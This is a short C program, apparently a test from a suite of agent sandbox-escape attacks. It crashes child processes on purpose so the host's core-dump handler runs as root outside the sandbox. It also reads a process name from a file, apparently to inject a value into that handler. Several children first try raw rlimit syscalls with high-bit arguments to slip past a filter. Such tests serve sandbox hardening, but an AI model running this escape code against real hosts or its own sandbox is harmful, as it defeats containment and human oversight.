/* Crash, so that the host's core handler is run, as root and outside the walls (core(5)): with the
 * limit as it is, with one of the agent's own, and with the same by an argument that has a high half. */
#include "attack.h"
#include <sys/prctl.h>
#include <sys/resource.h>
int main(void) {
    char name[17] = {0};
    int fd = open("name", O_RDONLY);
    if (fd < 0 || read(fd, name, 15) <= 0) return 1;
    prctl(PR_SET_NAME, name);
    for (int way = 0; way < 4; way++) {
        struct rlimit none = {0, 0};
        pid_t child = fork();
        if (!child) {
            if (way == 1) setrlimit(RLIMIT_CORE, &none);
            if (way == 2) syscall(SYS_prlimit64, 0, 1L << 32 | RLIMIT_CORE, &none, 0);
            if (way == 3) syscall(SYS_setrlimit, 1L << 32 | RLIMIT_CORE, &none);
            signal(SIGSEGV, SIG_DFL);
            raise(SIGSEGV);
        }
        waitpid(child, 0, 0);
    }
    return 0;
}
